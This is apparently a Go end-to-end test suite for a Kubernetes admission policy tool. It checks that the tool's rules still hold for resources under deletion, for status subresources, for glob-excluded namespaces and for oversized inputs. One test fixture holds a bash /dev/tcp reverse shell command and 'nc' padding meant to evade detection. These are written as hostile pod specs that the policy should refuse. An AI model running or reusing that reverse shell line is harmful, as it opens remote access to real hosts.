package e2e

import (
	"fmt"
	"strings"
	"testing"

	"github.com/coaming/coaming/internal/verdict"
)

// TestDeletionFreesNothing demands that a finalizer, which keeps an object in force while it is being deleted, frees it of no rule, and
// that finalizers and owners can be taken off what a rule refuses.
func TestDeletionFreesNothing(t *testing.T) {
	s := startSandbox(t)
	s.apply(t, `{apiVersion: rbac.authorization.k8s.io/v1, kind: Role, metadata: {name: harmless, finalizers: [example.com/x]}, rules: [{apiGroups: [""], resources: [pods], verbs: [get]}]}
---
{apiVersion: rbac.authorization.k8s.io/v1, kind: Role, metadata: {name: old, finalizers: [example.com/x, example.com/y]}, rules: [{apiGroups: ["*"], resources: ["*"], verbs: ["*"]}]}
---
{apiVersion: v1, kind: Pod, metadata: {name: old, finalizers: [example.com/x], ownerReferences: [{apiVersion: v1, kind: ConfigMap, name: gone, uid: a}]}, spec: {nodeName: nowhere, hostPID: true, containers: [{name: a, image: a}]}}
---
{apiVersion: batch/v1, kind: Job, metadata: {name: old, finalizers: [example.com/x]}, spec: {suspend: true, backoffLimit: 100000, template: {spec: {restartPolicy: Never, containers: [{name: a, image: a}]}}}}
---
{apiVersion: v1, kind: Namespace, metadata: {name: old, finalizers: [example.com/x], labels: {pod-security.kubernetes.io/enforce: privileged}}}`)
	out := coaming(t, "policy", "export", "--rule", "role-wildcard,host-pid,namespace-pod-security-exempt,job-retries-absurd")
	wantCode(t, out, verdict.ExitClean)
	s.apply(t, out.stdout)
	const wildcard = `{"rules":[{"apiGroups":["*"],"resources":["*"],"verbs":["*"]}]}`
	patch := func(kind, name, what string) string {
		message, _ := s.try(t, "", "patch", kind, name, "--type=merge", "-p", what)
		return message
	}
	eventually(t, "the policy holds", func() bool {
		message, _ := s.try(t, "", "patch", "role", "harmless", "--type=merge", "-p", wildcard, "--dry-run=server")
		return strings.Contains(message, "coaming-role-wildcard")
	})
	for _, what := range []string{"role/harmless", "role/old", "pod/old", "job/old", "namespace/old"} {
		s.kubectl(t, "delete", what, "--wait=false")
	}
	if message := patch("role", "harmless", wildcard); !strings.Contains(message, "coaming-role-wildcard") {
		t.Errorf("a role that is being deleted may become everything: %s", message)
	}
	if message := patch("role", "old", `{"rules":[{"apiGroups":["*"],"resources":["*"],"verbs":["*"]},{"apiGroups":[""],"resources":["pods"],"verbs":["get"]}]}`); !strings.Contains(message, "coaming-role-wildcard") {
		t.Errorf("a role that is being deleted may become more: %s", message)
	}
	for _, c := range [][2]string{
		{"pod", `{"metadata":{"ownerReferences":null}}`},
		{"pod", `{"metadata":{"finalizers":null}}`},
		{"role", `{"metadata":{"finalizers":["example.com/y"]}}`},
		{"role", `{"metadata":{"finalizers":null}}`},
		{"job", `{"metadata":{"ownerReferences":[{"apiVersion":"v1","kind":"ConfigMap","name":"gone","uid":"a"}]}}`},
		{"job", `{"metadata":{"finalizers":null}}`},
		{"namespace", `{"metadata":{"finalizers":null}}`},
	} {
		if message := patch(c[0], "old", c[1]); message != "" && !strings.Contains(message, "Warning") {
			t.Errorf("%s old: %s is refused: %s", c[0], c[1], message)
		}
	}
}

// TestTextSpendsNoBudget sends what has the API server spend on a rule what it has to spend, beside what the rule refuses: it is refused all the same.
func TestTextSpendsNoBudget(t *testing.T) {
	s := startSandbox(t)
	plan := writeFile(t, "plan.yaml", "apiVersion: coaming.dev/v1alpha1\nkind: Enforcement\nmetadata: {name: default}\nspec:\n  mode: off\n  rules: [{rules: [container-reverse-shell, image-publisher-not-allowed, role-wildcard, binding-everyone], mode: enforce}]\n")
	out := coaming(t, "policy", "export", "--plan", plan)
	wantCode(t, out, verdict.ExitClean)
	s.apply(t, out.stdout)
	const shell = `{name: b, image: b, command: [bash, -c, "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"]}`
	pod := func(more string) string {
		return `{apiVersion: v1, kind: Pod, metadata: {name: x}, spec: {containers: [` + more + shell + `]}}`
	}
	refused := func(object, rule string) bool {
		message, err := s.try(t, object, "create", "--dry-run=server", "--validate=false", "-f", "-")
		return err != nil && (strings.Contains(message, rule) || strings.Contains(message, "too large to be judged"))
	}
	eventually(t, "the policy holds", func() bool { return refused(pod(""), "container-reverse-shell") })
	words := func(n int, word string) string { return `"` + strings.Repeat(word+`","`, n-1) + word + `"` }
	rules := strings.Repeat(`{apiGroups: [a], resources: [`+words(400, "a")+`], verbs: [`+words(400, "a")+`]},`, 300)
	for name, c := range map[string][2]string{
		"long words":    {pod(`{name: a, image: a, args: [` + words(20, "nc"+strings.Repeat("x", 60000)) + `]},`), "container-reverse-shell"},
		"one long word": {pod(`{name: a, image: a, args: ["` + strings.Repeat("nc ", 400000) + `"]},`), "container-reverse-shell"},
		"many words":    {pod(`{name: a, image: a, args: [` + words(250000, "a") + `]},`), "container-reverse-shell"},
		"many containers": {pod(func() string {
			var b strings.Builder
			for i := range 4000 {
				fmt.Fprintf(&b, "{name: c%d, image: a},", i)
			}
			return b.String()
		}()), "container-reverse-shell"},
		"many rules": {`{apiVersion: rbac.authorization.k8s.io/v1, kind: Role, metadata: {name: x}, rules: [` + rules + `{apiGroups: ["*"], resources: ["*"], verbs: ["*"]}]}`, "role-wildcard"},
		"many subjects": {`{apiVersion: rbac.authorization.k8s.io/v1, kind: RoleBinding, metadata: {name: x}, roleRef: {apiGroup: rbac.authorization.k8s.io, kind: Role, name: r}, subjects: [` +
			strings.Repeat(`{kind: Group, apiGroup: rbac.authorization.k8s.io, name: a},`, 20000) + `{kind: Group, apiGroup: rbac.authorization.k8s.io, name: "system:authenticated"}]}`, "binding-everyone"},
	} {
		if !refused(c[0], c[1]) {
			message, err := s.try(t, c[0], "create", "--dry-run=server", "--validate=false", "-f", "-")
			t.Errorf("%s: %v, want it refused by %s:\n%.300s", name, err, c[1], message)
		}
	}
}

// TestGlobsAreExcluded has the API server take the webhook of a plan that excludes namespaces by globs, and ask it, where nobody answers,
// about pods of the others alone.
func TestGlobsAreExcluded(t *testing.T) {
	s := startSandbox(t)
	plan := writeFile(t, "plan.yaml", "apiVersion: coaming.dev/v1alpha1\nkind: Enforcement\nmetadata: {name: default}\nspec: {mode: enforce, onError: fail, excludeNamespaces: [lab, \"ops-*\"]}\n")
	out := coaming(t, "install", "--image", "registry.example.com/coaming@sha256:"+strings.Repeat("a", 64), "--plan", plan, "--kubernetes-version", "1.36", "--output", "yaml")
	wantCode(t, out, verdict.ExitClean)
	for object := range strings.SplitSeq(out.stdout, "\n---\n") {
		if strings.Contains("\n"+object, "\nkind: ValidatingWebhookConfiguration") {
			s.apply(t, object)
		}
	}
	for _, namespace := range []string{"shop", "lab", "ops-a", "my-ops-a"} {
		s.apply(t, "{apiVersion: v1, kind: Namespace, metadata: {name: "+namespace+"}}")
		s.serviceAccount(t, namespace)
	}
	try := func(namespace string) string {
		message, _ := s.try(t, "{apiVersion: v1, kind: Pod, metadata: {name: a, namespace: "+namespace+"}, spec: {containers: [{name: a, image: a}]}}", "create", "--dry-run=server", "-f", "-")
		return message
	}
	eventually(t, "the webhook is asked", func() bool { return strings.Contains(try("shop"), "fail.validate.coaming.dev") })
	if message := try("my-ops-a"); !strings.Contains(message, "fail.validate.coaming.dev") {
		t.Errorf("a namespace that is not excluded: %s", message)
	}
	for _, namespace := range []string{"lab", "ops-a"} {
		if message := try(namespace); message != "" {
			t.Errorf("%s is excluded: %s", namespace, message)
		}
	}
}

// TestWebhookIsAskedWhatThePlanNeeds has the API server ask, where nobody answers, about what the plan's rules judge that are no policies, and
// demands that what the cluster itself keeps does not wait for it.
func TestWebhookIsAskedWhatThePlanNeeds(t *testing.T) {
	s := startSandbox(t)
	plan := writeFile(t, "plan.yaml", "apiVersion: coaming.dev/v1alpha1\nkind: Enforcement\nmetadata: {name: default}\nspec: {mode: off, rules: [{rules: [secret-in-configmap, secret-in-custom-resource], mode: enforce, onError: fail}]}\n")
	out := coaming(t, "install", "--image", "registry.example.com/coaming@sha256:"+strings.Repeat("a", 64), "--plan", plan, "--kubernetes-version", "1.36", "--output", "yaml")
	wantCode(t, out, verdict.ExitClean)
	if !strings.Contains(out.stderr, "judged in the background alone, not on admission: secret-in-custom-resource") {
		t.Errorf("nobody is told of what is not enforced: %s", out.stderr)
	}
	for object := range strings.SplitSeq(out.stdout, "\n---\n") {
		if strings.Contains("\n"+object, "\nkind: ValidatingWebhookConfiguration") {
			s.apply(t, object)
		}
	}
	s.apply(t, "{apiVersion: v1, kind: Namespace, metadata: {name: shop}}")
	try := func(args ...string) string {
		message, _ := s.try(t, "", append([]string{"-n", "shop", "--dry-run=server"}, args...)...)
		return message
	}
	eventually(t, "the webhook is asked", func() bool {
		return strings.Contains(try("create", "configmap", "a", "--from-literal=a=b"), "fail.validate.coaming.dev")
	})
	for name, args := range map[string][]string{
		"a Secret":            {"create", "secret", "generic", "a", "--from-literal=a=b"},
		"the authority":       {"create", "configmap", "authority", "--as=system:serviceaccount:kube-system:root-ca-cert-publisher", "--as-group=system:masters"},
		"the cluster's own":   {"-n", "kube-system", "create", "configmap", "a"},
		"what is of no space": {"create", "clusterrole", "a", "--verb=get", "--resource=pods"},
	} {
		if message := try(args...); message != "" {
			t.Errorf("%s waits for the webhook: %s", name, message)
		}
	}
}

// TestStatusFreesNothing demands that labels and annotations which rules refuse cannot be written by way of a status, and that what
// a status says itself is nobody's business.
func TestStatusFreesNothing(t *testing.T) {
	s := startSandbox(t)
	s.apply(t, `{apiVersion: networking.k8s.io/v1, kind: Ingress, metadata: {name: way, namespace: default}, spec: {defaultBackend: {service: {name: a, port: {number: 80}}}}}
---
{apiVersion: networking.k8s.io/v1, kind: Ingress, metadata: {name: old, namespace: default, annotations: {nginx.ingress.kubernetes.io/configuration-snippet: "return 200;"}}, spec: {defaultBackend: {service: {name: a, port: {number: 80}}}}}
---
{apiVersion: v1, kind: Namespace, metadata: {name: shop}}`)
	out := coaming(t, "policy", "export", "--rule", "ingress-nginx-snippet,namespace-pod-security-exempt")
	wantCode(t, out, verdict.ExitClean)
	s.apply(t, out.stdout)
	patch := func(kind, name, subresource, what string) string {
		t.Helper()
		message, _ := s.try(t, "", "patch", kind, name, "--subresource="+subresource, "--type=merge", "-p", what)
		return message
	}
	const snippet = `{"metadata":{"annotations":{"nginx.ingress.kubernetes.io/configuration-snippet":"return 403;"}}}`
	eventually(t, "the policy holds", func() bool {
		message, _ := s.try(t, "", "patch", "ingress", "way", "--type=merge", "-p", snippet, "--dry-run=server")
		return strings.Contains(message, "coaming-ingress-nginx-snippet")
	})
	eventually(t, "the other policy holds", func() bool {
		message, _ := s.try(t, "", "label", "namespace", "shop", "pod-security.kubernetes.io/enforce=privileged", "--dry-run=server")
		return strings.Contains(message, "coaming-namespace-pod-security-exempt")
	})
	if message := patch("ingress", "way", "status", snippet); !strings.Contains(message, "coaming-ingress-nginx-snippet") {
		t.Errorf("an annotation comes by the status: %s", message)
	}
	if message := patch("namespace", "shop", "status", `{"metadata":{"labels":{"pod-security.kubernetes.io/enforce":"privileged"}}}`); !strings.Contains(message, "coaming-namespace-pod-security-exempt") {
		t.Errorf("a label comes by the status: %s", message)
	}
	final := `{"apiVersion":"v1","kind":"Namespace","metadata":{"name":"shop","labels":{"pod-security.kubernetes.io/enforce":"privileged"}},"spec":{"finalizers":["kubernetes"]}}`
	if message, _ := s.try(t, final, "replace", "--raw", "/api/v1/namespaces/shop/finalize", "-f", "-"); !strings.Contains(message, "coaming-namespace-pod-security-exempt") {
		t.Errorf("a label comes by who finalizes: %s", message)
	}
	address := `{"status":{"loadBalancer":{"ingress":[{"ip":"192.0.2.1"}]}}}`
	for _, name := range []string{"way", "old"} {
		if message := patch("ingress", name, "status", address); message != "" {
			t.Errorf("the status of ingress %s is refused: %s", name, message)
		}
	}
}
